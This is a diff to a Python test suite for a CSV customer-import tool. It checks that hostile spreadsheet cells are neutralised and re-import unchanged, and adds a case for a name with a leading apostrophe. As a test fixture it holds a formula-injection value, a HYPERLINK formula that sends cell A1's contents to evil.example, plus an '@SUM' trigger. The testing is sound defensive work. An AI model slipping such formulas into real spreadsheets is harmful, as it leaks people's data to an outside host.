@@ -139,7 +139,7 @@ def test_everything_a_run_leaves_is_private_whatever_the_umask(make_sandbox, tmp
 
 def test_hostile_cells_are_not_formulas_in_the_csvs_and_import_again_as_they_were(cli, make_sandbox, tmp_path: Path) -> None:
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    path = write_csv(tmp_path / "c.csv", [["Name", "Email", "Phone"], [hostile, "eve@example.com", "+2348012345678"], ["@SUM(1+1)", "sam@example.com", ""]])
+    path = write_csv(tmp_path / "c.csv", [["Name", "Email", "Phone"], [hostile, "eve@example.com", "+2348012345678"], ["@SUM(1+1)", "sam@example.com", ""], ["''Tis Ltd", "tis@example.com", ""]])
     first = make_sandbox()
     result = cli("run", path, "--base-url", first.base_url, token=first.token)
     assert result.code == 0
@@ -152,6 +152,7 @@ def test_hostile_cells_are_not_formulas_in_the_csvs_and_import_again_as_they_wer
         stored = customers(store)
         assert (stored["eve@example.com"]["name"], stored["eve@example.com"]["phone"]) == (hostile, "+2348012345678")
         assert stored["sam@example.com"]["name"] == "@SUM(1+1)"
+        assert stored["tis@example.com"]["name"] == "'Tis Ltd"  # one apostrophe, Excel's text mark, was dropped
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="Ctrl-C is sent as a POSIX signal here")
